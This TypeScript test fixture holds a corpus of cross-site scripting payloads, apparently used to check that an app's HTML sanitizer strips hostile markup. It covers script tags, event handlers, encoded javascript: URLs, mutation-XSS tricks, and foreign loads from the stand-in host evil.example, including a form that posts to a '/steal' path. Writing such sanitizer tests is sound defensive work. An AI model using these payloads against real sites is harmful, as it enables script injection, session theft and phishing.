/**
 * Hostile HTML an operator account (or anyone who can write into the platform's content) could plant in
 * the texts the app renders. Every payload that would run script calls `xss()` (a spy the test installs)
 * or `alert()`; every payload that would fetch something names FOREIGN_HOST.
 */
export const FOREIGN_HOST = 'evil.example';
const F = `https://${FOREIGN_HOST}`;

/** `swallows`: the payload leaves the parser inside a removed element, so whatever follows it vanishes too. */
export type Payload = { kind: string; html: string; swallows?: true };

export const XSS_CORPUS: Payload[] = [
  // Script elements
  { kind: 'script', html: '<script>xss()</script>' },
  { kind: 'script mixed case', html: '<ScRiPt>alert(1)</sCrIpT>' },
  { kind: 'script src', html: `<script src="${F}/x.js"></script>` },
  { kind: 'script in comment trick', html: '<!--<script>-->xss()<!--</script>--><script>xss()</script>' },
  // Event handlers
  { kind: 'img onerror', html: '<img src=x onerror=xss()>' },
  { kind: 'img onerror quoted alert', html: '<img src="x" onerror="alert(1)">' },
  { kind: 'img onerror entity-encoded', html: '<img src=x onerror=&#x78;&#x73;&#x73;&#x28;&#x29;>' },
  { kind: 'body onload', html: '<body onload=xss()>' },
  { kind: 'details ontoggle', html: '<details open ontoggle=xss()><summary>d</summary></details>' },
  { kind: 'input autofocus onfocus', html: '<input autofocus onfocus=xss()>' },
  { kind: 'video source onerror', html: '<video><source onerror=xss()></video>' },
  { kind: 'audio onerror', html: '<audio src=x onerror=xss()></audio>' },
  { kind: 'marquee onstart', html: '<marquee onstart=xss()>m</marquee>' },
  { kind: 'div onmouseover', html: '<div onmouseover="xss()" onclick="xss()">hover</div>' },
  // javascript:, data: and vbscript: addresses, plain, mixed-case and encoded
  { kind: 'javascript: link', html: '<a href="javascript:xss()">j1</a>' },
  { kind: 'javascript: mixed case', html: '<a href="JaVaScRiPt:alert(1)">j2</a>' },
  {
    kind: 'javascript: entity-encoded',
    html: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;xss()">j3</a>',
  },
  { kind: 'javascript: with tab', html: '<a href="java&#x09;script:xss()">j4</a>' },
  { kind: 'javascript: with leading space', html: '<a href=" &#14; javascript:xss()">j5</a>' },
  { kind: 'javascript: percent-encoded', html: '<a href="%6A%61%76%61%73%63%72%69%70%74:xss()">j6</a>' },
  { kind: 'data: link', html: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d1</a>' },
  { kind: 'vbscript: link', html: '<a href="vbscript:msgbox(1)">v1</a>' },
  { kind: 'VBScript: mixed case', html: '<a href="VbScRiPt:msgbox(1)">v2</a>' },
  {
    kind: 'image map areas',
    html: '<map name="m"><area shape="rect" coords="0,0,9,9" href="javascript:xss()"><area shape="rect" coords="9,9,19,19" href="sms:+100"></map>',
  },
  // Frames and plug-ins
  { kind: 'iframe javascript:', html: '<iframe src="javascript:xss()"></iframe>' },
  { kind: 'iframe srcdoc script', html: '<iframe srcdoc="<script>parent.xss()</script>"></iframe>' },
  { kind: 'iframe srcdoc encoded', html: '<iframe srcdoc="&lt;img src=x onerror=parent.xss()&gt;"></iframe>' },
  { kind: 'object data', html: '<object data="javascript:xss()"></object>' },
  { kind: 'embed data:', html: '<embed src="data:text/html,<script>parent.xss()</script>">' },
  // SVG and MathML
  { kind: 'svg onload', html: '<svg onload=xss()></svg>' },
  { kind: 'svg script', html: '<svg><script>xss()</script></svg>' },
  { kind: 'svg xlink:href', html: '<svg><a xlink:href="javascript:xss()"><text x="0" y="20">s</text></a></svg>' },
  { kind: 'svg animate onbegin', html: '<svg><animate onbegin=xss() attributeName=x dur=1s></animate></svg>' },
  { kind: 'svg foreign image', html: `<svg><image href="${F}/i.png"></image></svg>` },
  {
    kind: 'math maction',
    html: '<math><maction actiontype="statusline" xlink:href="javascript:xss()">m</maction></math>',
  },
  { kind: 'math href', html: '<math href="javascript:xss()"><mi>m</mi></math>' },
  // Forms
  { kind: 'form javascript: action', html: '<form action="javascript:xss()"><button>f1</button></form>' },
  {
    kind: 'form to a foreign host',
    html: `<form action="${F}/steal" method="post"><input name="p" value="1"><button>f2</button></form>`,
  },
  { kind: 'button formaction', html: '<button formaction="javascript:xss()">b</button>' },
  // Meta refresh and base
  { kind: 'meta refresh javascript:', html: '<meta http-equiv="refresh" content="0;url=javascript:xss()">' },
  { kind: 'meta refresh foreign', html: `<meta http-equiv="refresh" content="0;url=${F}/">` },
  { kind: 'base href', html: `<base href="${F}/"><img src="/favicon.ico" alt="b">` },
  // Style
  { kind: 'style attribute url()', html: `<div style="background:url(${F}/bg.png)">s1</div>` },
  { kind: 'style attribute expression()', html: '<div style="width:expression(xss())">s2</div>' },
  { kind: 'style @import', html: `<style>@import url("${F}/x.css");</style>` },
  { kind: 'style url()', html: `<style>.safe-html{background:url(//${FOREIGN_HOST}/b.png)}</style>` },
  { kind: 'link stylesheet', html: `<link rel="stylesheet" href="${F}/x.css">` },
  // Template injection (must stay text)
  { kind: 'template braces', html: "{{constructor.constructor('xss()')()}}" },
  { kind: 'template literal', html: '${xss()} <%= xss() %> #{xss()}' },
  // Mutation XSS classics
  {
    kind: 'mXSS noscript',
    html: '<noscript><p title="</noscript><img src=x onerror=xss()>"></noscript>',
    swallows: true,
  },
  { kind: 'mXSS svg style', html: '<svg></p><style><a id="</style><img src=1 onerror=xss()>"></svg>' },
  {
    kind: 'mXSS math mglyph',
    html: '<math><mtext><table><mglyph><style><img src=x onerror=xss()></style></mglyph></table></mtext></math>',
  },
  {
    kind: 'mXSS nested forms',
    html: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=xss()>',
    swallows: true,
  },
  { kind: 'mXSS textarea', html: '<textarea><img src=x onerror=xss()></textarea>' },
  { kind: 'mXSS title', html: '<title><img src=x onerror=xss()></title>' },
  { kind: 'mXSS xmp', html: '<xmp><img src=x onerror=xss()></xmp>' },
  { kind: 'mXSS listing', html: '<listing>&lt;img src=x onerror=xss()&gt;</listing>' },
  // Foreign images, media and links
  { kind: 'foreign image', html: `<img src="${F}/pixel.gif" alt="p1">` },
  { kind: 'protocol-relative image', html: `<img src="//${FOREIGN_HOST}/pixel.gif" alt="p2">` },
  { kind: 'backslash image', html: `<img src="/\\${FOREIGN_HOST}/pixel.gif" alt="p3">` },
  { kind: 'tab-broken image', html: `<img src="/&#x09;/${FOREIGN_HOST}/pixel.gif" alt="p4">` },
  { kind: 'image srcset', html: `<img src="/favicon.ico" srcset="${F}/a.png 1x" alt="p5">` },
  { kind: 'picture source', html: `<picture><source srcset="${F}/p.png"><img src="/favicon.ico" alt="p6"></picture>` },
  { kind: 'video src', html: `<video src="${F}/v.mp4" autoplay muted></video>` },
  { kind: 'video poster', html: `<video poster="${F}/p.png"></video>` },
  { kind: 'audio src', html: `<audio src="${F}/a.mp3" autoplay></audio>` },
  { kind: 'video source src', html: `<video autoplay muted><source src="${F}/s.mp4"></video>` },
  { kind: 'track src', html: `<video><track src="${F}/t.vtt" default></video>` },
  { kind: 'table background', html: `<table background="${F}/t.png"><tr><td>t</td></tr></table>` },
  { kind: 'input image', html: `<input type="image" src="${F}/i.png">` },
  { kind: 'object foreign', html: `<object data="${F}/o.swf"></object>` },
  {
    kind: 'svg data: image',
    html: `<img src="data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' onload='xss()'/&gt;" alt="p7">`,
  },
  { kind: 'foreign link with ping', html: `<a href="${F}/phish" ping="${F}/ping">offer</a>` },
];

/** Several payloads as one body: a last paragraph before any payload that swallows what follows it. */
export function oneBody(payloads: Payload[], tail: string): string {
  const html = (list: Payload[]) => list.map((p) => p.html).join('\n');
  return html(payloads.filter((p) => !p.swallows)) + tail + html(payloads.filter((p) => p.swallows));
}
